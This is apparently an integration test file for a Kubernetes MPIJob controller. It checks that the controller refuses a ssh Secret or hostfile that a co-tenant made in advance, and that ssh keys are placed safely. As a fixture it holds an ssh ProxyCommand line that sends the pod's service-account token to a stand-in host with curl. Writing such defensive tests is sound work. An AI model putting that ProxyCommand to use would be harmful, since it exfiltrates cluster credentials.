"""Attack: a co-tenant with ordinary edit rights in the namespace (a real ServiceAccount bound to
Kubernetes' own ``edit`` ClusterRole) creates ``<job>-ssh`` before the job, with a key pair of
their own and an ssh config of their own (a ProxyCommand runs code in the launcher). The MPIJob
must refuse it: no pod mounts it, and the job fails saying why."""

from __future__ import annotations

import base64
import uuid

import yaml
from kubernetes import client, config

from tests.integration.test_mpijob import example

EVIL_CONFIG = "Host *\n  ProxyCommand sh -c 'curl -d @/var/run/secrets/kubernetes.io/serviceaccount/token evil'\n"


def _edit_identity(core: client.CoreV1Api, api_client, cluster, namespace: str, tmp_path) -> client.CoreV1Api:
    sa = f"cotenant-{uuid.uuid4().hex[:6]}"
    core.create_namespaced_service_account(namespace, {"metadata": {"name": sa}})
    client.RbacAuthorizationV1Api(api_client).create_namespaced_role_binding(namespace, {
        "metadata": {"name": sa}, "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "edit"},
        "subjects": [{"kind": "ServiceAccount", "name": sa, "namespace": namespace}]})  # fmt: skip
    token = core.create_namespaced_service_account_token(sa, namespace, {"spec": {"expirationSeconds": 3600}}).status.token
    base = yaml.safe_load(cluster.kubeconfig.read_text())
    base["users"] = [{"name": "sa", "user": {"token": token}}]
    base["contexts"][0]["context"]["user"] = "sa"
    path = tmp_path / f"kubeconfig-{sa}"
    path.write_text(yaml.safe_dump(base))
    return client.CoreV1Api(config.new_client_from_config(config_file=str(path)))


def test_an_mpijob_refuses_a_co_tenants_pre_made_secret(jobs, controller, core, api_client, cluster, namespace, tmp_path):
    tenant = _edit_identity(core, api_client, cluster, namespace, tmp_path)
    data = {"config": EVIL_CONFIG, "id_ed25519": "attacker's key", "authorized_keys": "ssh-ed25519 AAAA attacker"}
    tenant.create_namespaced_secret(namespace,
                                    {"metadata": {"name": "mpi-ssh", "labels": {"app.kubernetes.io/managed-by": "airflow-t9k"}},
                                                "stringData": data})  # fmt: skip
    jobs.create(example())
    job = jobs.wait_phase("MPIJob", "mpi", "Failed", timeout=30)
    failed = next(c for c in job["status"]["conditions"] if c["type"] == "Failed")
    assert "Secret mpi-ssh already exists and this job does not own it" in failed["message"], failed
    assert jobs.pods("mpi") == {}  # nothing ever mounted it
    left = core.read_namespaced_secret("mpi-ssh", namespace)
    assert base64.b64decode(left.data["config"]).decode() == EVIL_CONFIG  # not ours to delete either


def test_an_mpijob_refuses_a_co_tenants_pre_made_hostfile(jobs, controller, core, api_client, cluster, namespace, tmp_path):
    """The same attack on the other thing the launcher mounts: a hostfile naming the attacker's host."""
    tenant = _edit_identity(core, api_client, cluster, namespace, tmp_path)
    tenant.create_namespaced_config_map(
        namespace, {"metadata": {"name": "mpi-hostfile"}, "data": {"hostfile": "evil.example slots=64\n"}}
    )
    jobs.create(example())
    job = jobs.wait_phase("MPIJob", "mpi", "Failed", timeout=30)
    failed = next(c for c in job["status"]["conditions"] if c["type"] == "Failed")
    assert "ConfigMap mpi-hostfile already exists and was not created by the controller for this job" in failed["message"], failed
    assert jobs.pods("mpi") == {}  # nothing ever mounted it
    assert core.read_namespaced_config_map("mpi-hostfile", namespace).data == {"hostfile": "evil.example slots=64\n"}


def test_the_private_key_is_on_the_launcher_only_and_host_keys_are_checked(jobs, controller, namespace, core):
    jobs.create(example())
    jobs.wait_phase("MPIJob", "mpi", "Running")
    pods = jobs.pods("mpi")

    def files(pod) -> set[str]:
        vol = next(v for v in pod.spec.volumes if v.name == "t9k-ssh")
        return {i.key for i in vol.secret.items}

    assert files(pods["mpi-launcher"]) == {"id_ed25519", "config", "known_hosts"}
    assert all(files(pods[f"mpi-worker-{i}"]) == {"authorized_keys", "ssh_host_ed25519_key"} for i in range(5))
    secret = core.read_namespaced_secret("mpi-ssh", namespace)
    assert b"StrictHostKeyChecking yes" in base64.b64decode(secret.data["config"])
    host_public = base64.b64decode(secret.data["ssh_host_ed25519_key.pub"]).split()[:2]
    assert base64.b64decode(secret.data["known_hosts"]).split()[1:3] == host_public
